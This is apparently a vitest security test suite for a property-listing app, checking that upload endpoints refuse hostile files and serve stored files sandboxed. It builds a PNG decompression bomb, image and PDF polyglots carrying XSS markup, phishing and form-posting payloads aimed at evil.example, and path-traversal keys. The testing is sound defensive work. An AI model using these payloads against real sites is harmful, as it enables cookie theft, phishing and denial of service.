import { randomBytes } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { beforeAll, describe, expect, it } from 'vitest';
import { GET as uploadsRoute } from '../../src/pages/uploads/[...key].ts';
import * as s from '../../src/server/db/schema/index.ts';
import { LocalFileStorage } from '../../src/server/storage/local-storage.ts';
import { PDF_BYTES, messageForm } from '../support/chat.ts';
import { createProperty, createSignedInUser, imageRecord, seedCatalog } from '../support/factories.ts';
import { grantPackage } from '../support/packages.ts';
import { snapshot } from '../support/security.ts';
import { setSetting } from '../support/admin.ts';
import { createTestApp, storageKey, type TestApp } from '../support/test-app.ts';

/*
 * Hostile uploads through every call that takes a file: each is refused with a 4xx, and neither storage nor
 * the database gains anything.
 */

/** A PNG whose header claims 20000 x 20000 pixels (1.2 GB decoded) over a few kilobytes of zeros. */
function pixelBomb(): Uint8Array {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4);
    crc.writeUInt32BE(crc32(body));
    return Buffer.concat([length, body, crc]);
  };
  const header = Buffer.alloc(13);
  header.writeUInt32BE(20_000, 0);
  header.writeUInt32BE(20_000, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  const rows = deflateSync(Buffer.alloc((20_000 * 3 + 1) * 64));
  return new Uint8Array(
    Buffer.concat([
      Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
      chunk('IHDR', header),
      chunk('IDAT', rows),
      chunk('IEND', Buffer.alloc(0)),
    ]),
  );
}

/** A JPEG that decodes as a photo and also carries `markup` in a comment segment (right after start-of-image). */
async function jpegWithComment(markup: string): Promise<Uint8Array> {
  const jpeg = await sharp({ create: { width: 400, height: 300, channels: 3, background: '#48c' } })
    .jpeg()
    .toBuffer();
  const html = Buffer.from(markup, 'latin1');
  const comment = Buffer.alloc(4);
  comment.set([0xff, 0xfe]);
  comment.writeUInt16BE(html.length + 2, 2);
  // Still a valid JPEG.
  return new Uint8Array(Buffer.concat([jpeg.subarray(0, 2), comment, html, jpeg.subarray(2)]));
}

/** A PNG that decodes as a picture and also carries `markup` in a text chunk before its image data. */
async function pngWithText(markup: string): Promise<Uint8Array> {
  const png = await sharp({ create: { width: 200, height: 200, channels: 3, background: '#c84' } })
    .png()
    .toBuffer();
  const data = Buffer.from(`Comment\0${markup}`, 'latin1');
  const body = Buffer.concat([Buffer.from('tEXt', 'latin1'), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  const afterHeader = 8 + 25; // signature, then the IHDR chunk
  return new Uint8Array(Buffer.concat([png.subarray(0, afterHeader), length, body, crc, png.subarray(afterHeader)]));
}

/**
 * Markup that acts when a browser reads the file as HTML, each hidden where an image or PDF still decodes: script
 * in an event handler, a link or form off the site, styles that can load or overlay things, a page's own parts.
 */
const POLYGLOT_MARKUP = {
  'an image whose error runs script': '<img src=x onerror=alert(document.cookie)>',
  'a link off the site': '<a href="https://evil.example/login">Your session expired, sign in again</a>',
  'a form posting off the site': '<form action=https://evil.example><input name=password><button>Go</button></form>',
  'a style sheet': '<style>body{background:url(https://evil.example/t)}</style>',
  'an unknown element with a handler': '<x/onmouseover=alert(1) style=position:fixed;inset:0>',
  'a handler after a quoted attribute': '<p title="a"onclick="alert(1)">read me</p>',
  'a whole page': '<html><body><script>alert(document.cookie)</script></body></html>',
};

const text = (value: string) => new TextEncoder().encode(value);
const HTML = text('<!doctype html><html><body><script>alert(1)</script></body></html>');
const SVG = text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>');
const PDF_WITH_PAGE = text('%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n');
const PDF_WITH_IMAGE = text('%PDF-1.4\n1 0 obj << >> endobj\n% <img src=x onerror=alert(1)>\n%%EOF\n');

/**
 * A PDF as writers make them: dictionaries (`<<`), hex strings (`<FEFF...>`), a compressed page stream and XMP
 * metadata, which is XML (`<?xpacket`, `<x:xmpmeta xmlns:x=...>`, `<rdf:Description rdf:about=...>`).
 */
function realisticPdf(): Uint8Array {
  const page = deflateSync(Buffer.from('BT /F1 18 Tf 72 720 Td (Floor plan, level 2) Tj ET', 'latin1'));
  const xmp = [
    '<?xpacket begin="\u00ef\u00bb\u00bf" id="W5M0MpCehiHzreSzNTczkc9d"?>',
    '<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core 9.1-c001">',
    '<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">',
    '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:xmp="http://ns.adobe.com/xap/1.0/"',
    ' xmlns:xmpMM="http://ns.adobe.com/xap/1.0/mm/" xmlns:stEvt="http://ns.adobe.com/xap/1.0/sType/ResourceEvent#">',
    '<dc:format>application/pdf</dc:format><dc:title><rdf:Alt><rdf:li xml:lang="x-default">Plan</rdf:li></rdf:Alt></dc:title>',
    '<xmp:CreatorTool>Writer</xmp:CreatorTool><xmpMM:History><rdf:Seq><rdf:li stEvt:action="saved"/></rdf:Seq></xmpMM:History>',
    '</rdf:Description></rdf:RDF></x:xmpmeta>',
    '<?xpacket end="w"?>',
  ].join('\n');
  const objects = [
    '<< /Type /Catalog /Pages 2 0 R /Metadata 5 0 R >>',
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>',
    Buffer.concat([
      Buffer.from(`<< /Length ${page.length} /Filter /FlateDecode >>\nstream\n`),
      page,
      Buffer.from('\nendstream'),
    ]),
    `<< /Type /Metadata /Subtype /XML /Length ${xmp.length} >>\nstream\n${xmp}\nendstream`,
    '<< /Title <FEFF0050006C0061006E> /Producer (Writer) >>',
  ];
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n', 'latin1')];
  objects.forEach((object, i) =>
    parts.push(
      Buffer.from(`${i + 1} 0 obj\n`),
      Buffer.isBuffer(object) ? object : Buffer.from(object, 'latin1'),
      Buffer.from('\nendobj\n'),
    ),
  );
  parts.push(Buffer.from(`trailer\n<< /Root 1 0 R /Info 6 0 R /Size ${objects.length + 1} >>\n%%EOF\n`));
  return new Uint8Array(Buffer.concat(parts));
}

let app: TestApp;
let hostile: Record<string, [Uint8Array, string, string]>;
let photo: Uint8Array;
let poster: Awaited<ReturnType<typeof createSignedInUser>>;
let buyer: Awaited<ReturnType<typeof createSignedInUser>>;
let listingId: number;
let categoryId: number;
let fileFieldId: number;
let receiptPackageId: number;

const db = () => app.database.db;

/** Every file under the storage directory (the outbox of sent mail aside). */
function storedFiles(): string[] {
  return (fs.readdirSync(app.storageDir, { recursive: true }) as string[])
    .filter((f) => !f.startsWith('outbox') && fs.statSync(path.join(app.storageDir, f)).isFile())
    .sort();
}

function form(fields: Record<string, string>, files: Record<string, [Uint8Array, string, string]>) {
  const body = new FormData();
  for (const [key, value] of Object.entries(fields)) body.append(key, value);
  for (const [key, [bytes, name, type]] of Object.entries(files))
    body.append(key, new File([bytes as Uint8Array<ArrayBuffer>], name, { type }));
  return body;
}

beforeAll(async () => {
  app = await createTestApp();
  const catalog = await seedCatalog(db());
  categoryId = catalog.apartment.id;
  photo = await sharp({ create: { width: 800, height: 600, channels: 3, background: '#3a9' } })
    .jpeg()
    .toBuffer();
  hostile = {
    'pixel bomb': [pixelBomb(), 'huge.png', 'image/png'],
    ...Object.fromEntries(
      await Promise.all(
        Object.entries(POLYGLOT_MARKUP).flatMap(([what, markup]) => [
          jpegWithComment(markup).then((bytes) => [`JPEG hiding ${what}`, [bytes, 'photo.jpg', 'image/jpeg']]),
          pngWithText(markup).then((bytes) => [`PNG hiding ${what}`, [bytes, 'photo.png', 'image/png']]),
        ]),
      ),
    ),
    'PDF hiding an image whose error runs script': [PDF_WITH_IMAGE, 'plan.pdf', 'application/pdf'],
    'HTML renamed to .jpg': [HTML, 'photo.jpg', 'image/jpeg'],
    'SVG with script': [SVG, 'photo.png', 'image/svg+xml'],
    'PDF hiding a page': [PDF_WITH_PAGE, 'contract.pdf', 'application/pdf'],
    oversize: [new Uint8Array(21 * 1024 * 1024).fill(0xff), 'big.jpg', 'image/jpeg'],
  };
  poster = await createSignedInUser(db(), {
    mobile: '+351914000001',
    address: '1 Main Street',
    profileImage: imageRecord(),
  });
  buyer = await createSignedInUser(db());
  await grantPackage(db(), [poster.user.id], { property_list: null });
  listingId = (await createProperty(db(), { ownerId: poster.user.id, categoryId })).id;
  const [field] = await db()
    .insert(s.agentVerificationFields)
    .values({ name: 'Identity document', fieldType: 'file', isRequired: true })
    .returning();
  fileFieldId = field!.id;
  // Bank transfer receipts: a paid package, and the method switched on.
  receiptPackageId = (await grantPackage(db(), [], { property_list: 5 }, { priceMinor: 4900 })).package.id;
  await setSetting(db(), 'payment_methods', { bank_transfer: true });
});

const listingFields = () => ({
  title: 'A flat with a surprise',
  description: 'Two bedrooms and a balcony over the river.',
  category_id: String(categoryId),
  property_type: 'sell',
  price: '250000',
  city: 'Lisbon',
  state: 'Lisbon',
  country: 'Portugal',
  address: '10 Park Road, Lisbon',
  latitude: '38.72',
  longitude: '-9.14',
});

/** Each call that takes a file, given one file in its file field (sent by the buyer, or by `sender` when given). */
const CALLS: Record<
  string,
  (file: [Uint8Array, string, string], sender?: string) => Promise<{ status: number; body: any }>
> = {
  'profile photo': (file, sender = buyer.token) =>
    app.call('POST', '/api/update_profile', { token: sender, body: form({ name: 'Photo' }, { profile: file }) }),
  'listing photo': (file) =>
    app.call('POST', '/api/post_property', { token: poster.token, body: form(listingFields(), { title_image: file }) }),
  'listing document': (file) =>
    app.call('POST', '/api/post_property', {
      token: poster.token,
      body: form(listingFields(), { title_image: [photo, 'front.jpg', 'image/jpeg'], 'documents[]': file }),
    }),
  'chat file': (file, sender = buyer.token) =>
    app.call('POST', '/api/send_message', {
      token: sender,
      body: messageForm({ receiver_id: poster.user.id, property_id: listingId, message: 'See this' }, { file }),
    }),
  'chat voice note': (file, sender = buyer.token) =>
    app.call('POST', '/api/send_message', {
      token: sender,
      body: messageForm({ receiver_id: poster.user.id, property_id: listingId }, { audio: file }),
    }),
  'payment receipt': (file, sender = buyer.token) =>
    app.call('POST', '/api/bank-transfer', {
      token: sender,
      body: form({ package_id: String(receiptPackageId) }, { receipt: file }),
    }),
  'verification document': (file, sender = buyer.token) =>
    app.call('POST', '/api/apply-agent-verification', {
      token: sender,
      body: form({ 'form_fields[0][id]': String(fileFieldId) }, { 'form_fields[0][value]': file }),
    }),
};

describe('hostile uploads', () => {
  it('are refused by every call that takes a file, and nothing is stored', async () => {
    // A sender of its own for each call, so no call's own limits (30 messages a minute) answer for the files.
    const senders: Record<string, string> = {};
    for (const call of Object.keys(CALLS)) senders[call] = (await createSignedInUser(db())).token;
    const files = storedFiles();
    const before = await snapshot(db());
    const problems: string[] = [];
    for (const [call, send] of Object.entries(CALLS)) {
      for (const [what, file] of Object.entries(hostile)) {
        const res = await send(file, senders[call]);
        // Refused for the file (not for sending too many, or a pending application): bad input or too large.
        if (![400, 413, 415, 422].includes(res.status)) problems.push(`${call} took a ${what}: ${res.status}`);
        else if (typeof res.body?.error !== 'boolean') problems.push(`${call} ${what}: no envelope`);
      }
    }
    expect(problems).toEqual([]);
    expect(storedFiles()).toEqual(files);
    const after = await snapshot(db());
    for (const table of Object.keys(before)) expect(after[table], `table ${table}`).toBe(before[table]);
  }, 120_000);

  it('still takes honest files through the same calls (the refusals are about the files)', async () => {
    expect((await CALLS['listing photo']!([photo, 'front.jpg', 'image/jpeg'])).status).toBe(200);
    expect((await CALLS['chat file']!([PDF_BYTES, 'plan.pdf', 'application/pdf'])).status).toBe(200);
    expect((await CALLS['verification document']!([PDF_BYTES, 'id.pdf', 'application/pdf'])).status).toBe(200);
  });

  it('takes photos and PDFs as cameras and writers make them: metadata, XML and noise included', async () => {
    // Noise compresses to bytes that look random, where short byte patterns turn up by chance.
    const noise = sharp(randomBytes(1200 * 900 * 3), { raw: { width: 1200, height: 900, channels: 3 } });
    const xmp =
      '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">' +
      '<rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>' +
      '<rdf:Seq><rdf:li>A. Photographer</rdf:li></rdf:Seq></dc:creator></rdf:Description></rdf:RDF></x:xmpmeta>';
    const exif = { IFD0: { Make: 'Camera', Model: 'Phone 12', Copyright: '<c> 2026' } };
    const honest: Record<string, [Uint8Array, string, string]> = {
      'a noisy JPEG with EXIF and XMP': [
        await noise.clone().jpeg({ quality: 95 }).withExif(exif).withXmp(xmp).toBuffer(),
        'photo.jpg',
        'image/jpeg',
      ],
      'a noisy PNG with XMP': [await noise.clone().png().withXmp(xmp).toBuffer(), 'scan.png', 'image/png'],
      'a noisy WebP': [await noise.clone().webp({ quality: 90 }).toBuffer(), 'photo.webp', 'image/webp'],
      'a PDF with XMP, hex strings and a compressed page': [realisticPdf(), 'plan.pdf', 'application/pdf'],
    };
    const problems: string[] = [];
    for (const call of ['chat file', 'payment receipt', 'verification document', 'listing document'])
      for (const [what, file] of Object.entries(honest)) {
        // One sender per file: a second transfer or application waits for the first.
        const res = await CALLS[call]!(file, (await createSignedInUser(db())).token);
        if (res.status !== 200) problems.push(`${call} refused ${what}: ${res.status} ${JSON.stringify(res.body)}`);
      }
    expect(problems).toEqual([]);
  }, 60_000);
});

describe('stored files are served so that they never act as a page of the site', () => {
  const expectSandboxed = (res: { headers: Headers }, what: string) => {
    expect(res.headers.get('content-security-policy'), what).toBe("default-src 'none'; sandbox");
    expect(res.headers.get('x-content-type-options'), what).toBe('nosniff');
  };
  /** /uploads as the site answers it (src/pages/uploads/[...key].ts), given the storage of this test's API. */
  const fromUploads = (key: string) =>
    uploadsRoute({
      params: { key },
      locals: { runtime: { deps: { storage: new LocalFileStorage(app.storageDir) } } },
    } as unknown as Parameters<typeof uploadsRoute>[0]);

  it('sends a chat file and a payment receipt with a policy that runs and loads nothing', async () => {
    const sender = await createSignedInUser(db());
    const sent = await CALLS['chat file']!([PDF_BYTES, 'plano ação.pdf', 'application/pdf'], sender.token);
    expect(sent.status).toBe(200);
    const file = await app.call('GET', sent.body.data.file.url, { token: sender.token });
    expect(file.status).toBe(200);
    expectSandboxed(file, 'chat file');
    expect(file.headers.get('content-disposition')).toBe(
      `attachment; filename="plano a__o.pdf"; filename*=UTF-8''plano%20a%C3%A7%C3%A3o.pdf`,
    );

    const paid = await CALLS['payment receipt']!([photo, 'receipt.jpg', 'image/jpeg'], sender.token);
    expect(paid.status).toBe(200);
    const receipt = await app.call('GET', `/api/payment-receipt?payment_transaction_id=${paid.body.data.id}`, {
      token: sender.token,
    });
    expect(receipt.status).toBe(200);
    expectSandboxed(receipt, 'receipt');
    expect(receipt.headers.get('content-disposition')).toBe('attachment; filename="receipt.jpg"');
  });

  it('serves a public upload from /uploads the same way, and images in place', async () => {
    const posted = await CALLS['listing photo']!([photo, 'front.jpg', 'image/jpeg']);
    expect(posted.status).toBe(200);
    const key = storageKey(posted.body.data.title_image.url as string);
    const res = await fromUploads(key);
    expect(res.status).toBe(200);
    expectSandboxed(res, key);
    expect(res.headers.get('content-disposition')).toBe('inline');
  });

  it('answers 404 from /uploads for a directory, a private key and any name we never make', async () => {
    fs.mkdirSync(path.join(app.storageDir, 'some-dir', 'inner'), { recursive: true });
    fs.writeFileSync(path.join(app.storageDir, 'some-dir', 'a.jpg'), photo);
    expect((await fromUploads('some-dir/a.jpg')).status).toBe(200);
    for (const key of [
      '',
      'some-dir',
      'some-dir/',
      'some-dir/inner',
      'some-dir//a.jpg',
      'some-dir/a.jpg/more',
      'private',
      'private/',
      'private/payments',
      'outbox',
      `some-dir/${'a'.repeat(300)}.jpg`,
      `${'a'.repeat(300)}`,
      'some-dir/../some-dir/a.jpg',
      'some-dir/%2e%2e',
    ])
      expect((await fromUploads(key)).status, JSON.stringify(key)).toBe(404);
  });
});
